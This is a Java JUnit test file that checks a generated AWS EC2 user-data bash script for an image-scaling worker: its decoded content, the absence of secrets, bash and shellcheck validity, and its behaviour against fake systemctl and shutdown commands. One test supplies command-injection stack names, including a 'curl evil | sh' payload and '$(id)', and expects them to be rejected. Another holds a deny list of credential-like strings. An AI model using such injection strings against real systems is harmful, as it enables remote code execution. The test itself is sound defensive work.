package dev.imgscale.daemon.aws;

import static dev.imgscale.daemon.testing.CommandRun.executable;
import static dev.imgscale.daemon.testing.CommandRun.onPath;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import dev.imgscale.classifier.ImgscaleException;
import dev.imgscale.daemon.testing.CommandRun;
import dev.imgscale.daemon.testing.CommandRun.Result;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The worker's user data: what it says (decoded), that it says nothing more, that bash and
 * shellcheck accept it, and what it does when run against stand-in {@code systemctl} and
 * {@code shutdown} commands under a temporary root.
 */
class UserDataTest {
    static final Duration IDLE = Duration.ofSeconds(300);

    @TempDir
    Path dir;

    @Test
    void should_decode_to_a_bash_script_that_starts_the_worker_with_the_stacks_ssm_path() {
        String script = new String(Base64.getDecoder().decode(UserData.base64("demo", IDLE)), StandardCharsets.UTF_8);

        assertEquals(UserData.script("demo", IDLE), script);
        assertTrue(script.startsWith("#!/bin/bash\n"), script);
        assertTrue(script.contains("\nIMGSCALE_WORKER_ARGS=\"--config ssm:/imgscale/demo --worker-id imds --idle-exit 300\"\n"),
                script);
        assertTrue(script.contains("cat >/etc/imgscale/worker.env <<'EOF'"), script);
        assertTrue(script.contains("systemctl enable --now --no-block \"$unit\""), script);
        assertTrue(script.contains("unit=imgscale-worker.service"), script);
    }

    @Test
    void should_name_nothing_but_the_stacks_ssm_path() {
        String script = UserData.script("demo", IDLE);

        List<String> ssm = all(Pattern.compile("ssm:\\S*"), script);
        assertEquals(List.of("ssm:/imgscale/demo"), ssm, script);
        for (String forbidden : List.of("AWS_", "AKIA", "aws_secret", "secret", "password", "token", "s3://", "http://",
                "https://", "sqs", "bucket", "queue", "region", "ami-", "arn:")) {
            assertFalse(script.toLowerCase().contains(forbidden.toLowerCase()), "'" + forbidden + "' in\n" + script);
        }
    }

    @Test
    void should_refuse_a_stack_name_that_could_escape_the_script() {
        assertThrows(ImgscaleException.class, () -> UserData.script("demo\"; curl evil | sh; \"", IDLE));
        assertThrows(ImgscaleException.class, () -> UserData.script("Demo$(id)", IDLE));
        assertThrows(IllegalArgumentException.class, () -> UserData.script("demo", Duration.ZERO));
    }

    @Test
    void should_be_valid_bash() throws Exception {
        Path script = write(UserData.script("demo", IDLE));
        Result r = run(List.of("bash", "-n", script.toString()), null);
        assertEquals(0, r.exit(), r.output());
    }

    @Test
    void should_pass_shellcheck_when_it_is_installed() throws Exception {
        assumeTrue(onPath("shellcheck"), "shellcheck is not installed");
        Path script = write(UserData.script("demo", IDLE));

        Result r = run(List.of("shellcheck", "--shell=bash", "--severity=style", script.toString()), null);

        assertEquals(0, r.exit(), "shellcheck:\n" + r.output() + "\nscript:\n" + UserData.script("demo", IDLE));
    }

    @Test
    void should_write_the_environment_file_and_the_drop_in_then_start_the_unit() throws Exception {
        Path root = dir.resolve("root");
        Path log = dir.resolve("commands.log");
        Path bin = fakeCommands(log, true);

        Result r = run(List.of("bash", write(rooted(UserData.script("demo", IDLE), root)).toString()), bin);

        assertEquals(0, r.exit(), r.output());
        assertEquals("IMGSCALE_WORKER_ARGS=\"--config ssm:/imgscale/demo --worker-id imds --idle-exit 300\"\n",
                Files.readString(root.resolve("etc/imgscale/worker.env")), r.output());
        String dropIn = Files.readString(root.resolve("etc/systemd/system/imgscale-worker.service.d/50-imgscale-fleet.conf"));
        assertEquals("[Unit]\nSuccessAction=poweroff\nFailureAction=poweroff\n", dropIn);
        assertEquals(List.of("systemctl cat imgscale-worker.service", "systemctl daemon-reload",
                "systemctl enable --now --no-block imgscale-worker.service"), Files.readAllLines(log), r.output());
    }

    @Test
    void should_power_off_when_the_ami_has_no_worker_unit() throws Exception {
        Path root = dir.resolve("root");
        Path log = dir.resolve("commands.log");
        Path bin = fakeCommands(log, false);

        Result r = run(List.of("bash", write(rooted(UserData.script("demo", IDLE), root)).toString()), bin);

        assertEquals(1, r.exit(), r.output());
        assertTrue(r.output().contains("this AMI has no imgscale-worker.service; build the worker AMI with packer/"),
                r.output());
        assertEquals(List.of("systemctl cat imgscale-worker.service", "shutdown -h now"), Files.readAllLines(log));
        assertFalse(Files.exists(root.resolve("etc/imgscale/worker.env")), "nothing written");
    }

    // ---- helpers ----

    /** The script with its absolute paths moved under {@code root}, so it can run unprivileged. */
    private static String rooted(String script, Path root) {
        return script.replace("/etc/", root + "/etc/");
    }

    /** {@code systemctl} and {@code shutdown} stand-ins that log their arguments. */
    private Path fakeCommands(Path log, boolean unitExists) throws IOException {
        Path bin = Files.createDirectories(dir.resolve("bin"));
        String systemctl = "#!/bin/bash\necho \"systemctl $*\" >>'" + log + "'\n"
                + "if [ \"$1\" = cat ]; then exit " + (unitExists ? 0 : 1) + "; fi\nexit 0\n";
        executable(bin.resolve("systemctl"), systemctl);
        executable(bin.resolve("shutdown"), "#!/bin/bash\necho \"shutdown $*\" >>'" + log + "'\n");
        return bin;
    }

    private Path write(String script) throws IOException {
        Path file = Files.createTempFile(dir, "user-data", ".sh");
        Files.writeString(file, script);
        return file;
    }

    private static Result run(List<String> command, Path extraPath) throws Exception {
        return CommandRun.of(command).pathFirst(extraPath).run(Duration.ofSeconds(30));
    }

    private static List<String> all(Pattern pattern, String text) {
        List<String> out = new ArrayList<>();
        Matcher m = pattern.matcher(text);
        while (m.find()) {
            out.add(m.group());
        }
        return out;
    }
}
